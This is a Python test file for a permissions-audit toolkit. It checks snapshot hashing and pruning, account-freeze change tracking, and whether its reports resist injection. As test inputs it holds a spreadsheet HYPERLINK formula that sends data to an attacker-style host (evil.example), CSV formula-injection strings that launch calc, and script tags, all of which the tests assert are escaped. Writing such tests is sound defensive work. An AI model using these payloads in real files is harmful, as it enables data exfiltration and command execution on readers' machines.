"""Snapshots (hashed, verified, pruned), snapshot-to-snapshot changes and the
auditor report formats (R-AUD-2): checkable, injection-safe, self-contained."""
import csv
import hashlib
import io
import json
import os
import re

import pytest

from opskit.accounts.declared import load_declared
from opskit.core.errors import IntegrityError, UsageError
from opskit.hosts.inventory import load_inventory
from opskit.perms.analysis import Analysis, analyse
from opskit.perms.changes import changes
from opskit.perms.findings import Finding
from opskit.perms.report import FINDING_COLUMNS, ReportStore, build_report, verify_content
from opskit.perms.snapshot import SnapshotStore, make_snapshot, take_snapshot
from opskit.settings import load_config
from tests.fixtures.perms.trees import KEYS, Org, key_fingerprint

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def snap_of(org):
    org.save()
    return take_snapshot(load_inventory(load_config(org.config)).select(), [])


def test_snapshot_store_hash_verify_resolve_prune(tmp_path):
    store = SnapshotStore(str(tmp_path / "state"), keep=2, keep_days=0)   # count floor only
    ids = []
    for i in range(3):
        snap = make_snapshot({"hosts": [], "databases": [], "n": i})
        path = store.save(snap)
        ids.append(snap.id)
        data = open(path, "rb").read()
        assert hashlib.sha256(data).hexdigest() == snap.sha256 and snap.id.endswith(
            snap.sha256[:12])
        # sha256sum -c format
        assert open(path + ".sha256").read() == f"{snap.sha256}  {snap.id}.json\n"
        assert oct(os.stat(path).st_mode & 0o777) == "0o600"
    assert store.ids() == ids[1:]                         # keep=2: the oldest is pruned
    assert store.load().id == ids[2] and store.load(ids[1][:19]).id == ids[1]
    assert store.load(ids[1][-12:]).content["n"] == 1
    with pytest.raises(UsageError, match="no stored snapshot 'nope'"):
        store.load("nope")
    with pytest.raises(UsageError, match="matches 2 snapshots"):
        store.load("20")
    path = os.path.join(store.dir, f"{ids[2]}.json")
    with open(path, "r+b") as fh:
        data = fh.read().replace(b'"n":2', b'"n":7')
        fh.seek(0)
        fh.write(data)
    with pytest.raises(IntegrityError, match="changed after it was taken"):
        store.load(ids[2])
    with pytest.raises(UsageError, match="no permission snapshot stored yet"):
        SnapshotStore(str(tmp_path / "empty")).load()


def test_changes_show_a_freeze(tmp_path):
    org = Org(tmp_path)
    org.roster["people"]["wu.xia"]["status"] = "departed"
    before = snap_of(org)
    org.freeze("app1", "wu.xia")
    after = snap_of(org)
    rows, notes = changes(before, after)
    got = {(r.account, r.where, r.kind, r.item, r.change, r.before, r.after) for r in rows}
    assert got == {
        ("wu.xia", "app1", "state", "password", "changed", "set", "locked"),
        ("wu.xia", "app1", "state", "expired", "changed", "no", "yes"),
        ("wu.xia", "app1", "state", "shell", "changed", "/bin/bash", "/usr/sbin/nologin"),
        ("wu.xia", "app1", "crontab", "30 6 * * 1-5 PGPASSWORD=*** /usr/local/bin/claims-export "
                                      "postgresql://export:***@db1/insurance", "lost", "yes", ""),
    }
    assert notes == []
    # keys and sudo rights are lost too when present
    org.keys("app1", "ma.lin", [KEYS["ma.lin"]])
    org.write("app1", {"/etc/sudoers.d/60-ml": "ma.lin ALL=(root) /bin/ls\n"})
    before = snap_of(org)
    org.freeze("app1", "ma.lin")
    rows, _ = changes(before, snap_of(org), person_login="ma.lin")
    lost = {(r.kind, r.item) for r in rows if r.change == "lost"}
    assert lost == {("key", f"ssh-ed25519 {key_fingerprint(KEYS['ma.lin'])}"),
                    ("sudo", "ALL=(root) /bin/ls")}
    assert {r.account for r in rows} == {"ma.lin"}


def crafted(tmp_path):
    snap = make_snapshot({"hosts": [], "databases": []})
    findings = [Finding("not-in-roster", "medium", f"account {EVIL} on app1", "+cmd|' /C calc'!A0",
                        None, EVIL, "app1"),
                Finding("beyond-role", "high", "<script>alert(1)</script> | pipe", "@SUM(1+1)*cmd",
                        "p1", "p1", "<b>h</b>")]
    return snap, Analysis(snap.id, findings, [], [("app1", "warn <i>x</i>")])


def test_report_formats_are_safe_and_checkable(tmp_path):
    snap, analysis = crafted(tmp_path)
    contents = {}
    for fmt in ("json", "csv", "html", "md", "table"):
        content, text = build_report(analysis, snap, fmt, generated="2026-01-01T00:00:00Z")
        contents[fmt] = content
        if fmt != "csv":            # CSV is the findings table alone (issue #22 item 6)
            assert snap.id in text and content["sha256"] in text
    assert len({c["sha256"] for c in contents.values()}) == 1       # same content, same hash
    content, text = build_report(analysis, snap, "json", generated="2026-01-01T00:00:00Z")
    assert verify_content(json.loads(text))
    tampered = json.loads(text)
    tampered["findings"][0]["severity"] = "low"
    assert not verify_content(tampered)
    # CSV: every cell a spreadsheet would evaluate starts with an apostrophe
    _, text = build_report(analysis, snap, "csv")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == [c.replace(" ", "_") for c in FINDING_COLUMNS]
    cells = [c for row in parsed for c in row]
    assert EVIL not in cells and "'" + EVIL in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    # HTML: one self-contained page, summary before the findings, all escaped
    _, page = build_report(analysis, snap, "html")
    assert "<script" not in page and "&lt;script&gt;" in page and "&lt;b&gt;h&lt;/b&gt;" in page
    assert not re.search(r"(src|href)\s*=\s*[\"']?(https?:|//)", page)
    assert "<link" not in page and "@import" not in page and "<style>" in page
    assert page.index("Summary") < page.index('id="R-ACC-1"') < page.index('id="R-ACC-4"')
    # Markdown for tickets: table syntax and HTML neutralised
    _, md = build_report(analysis, snap, "md")
    assert "&lt;script&gt;" in md and "\\| pipe" in md and "<script>" not in md
    assert md.index("## Summary") < md.index("## R-ACC-1")


def test_report_store_records(tmp_path):
    org = Org(tmp_path)
    evil = "=cmd|' /C calc'!A0"            # no ':' -- it is a passwd line
    passwd = org.read("app1", "/etc/passwd") + f"{evil}:x:1500:1500::/home/x:/bin/sh\n"
    org.write("app1", {"/etc/passwd": passwd})
    snap = snap_of(org)
    analysis = analyse(snap, load_declared(load_config(org.config)))
    store = ReportStore(str(tmp_path / "state"))
    for fmt in ("html", "csv"):
        content, text = build_report(analysis, snap, fmt)
        path = store.save(content, fmt, text)
        record = json.load(open(path))
        assert {"snapshot", "generated", "sha256", "findings", "format"} <= set(record)
        assert record["snapshot"] == snap.id and record["format"] == fmt
        assert verify_content(record)
        rendered = open(os.path.join(store.dir, record["rendered"]), "rb").read()
        assert hashlib.sha256(rendered).hexdigest() == record["rendered_sha256"]
        assert any(f["account"] == evil for f in record["findings"])
        if fmt == "csv":
            assert "'" + evil in rendered.decode() and "," + evil not in rendered.decode()
    assert len(store.records()) == 2
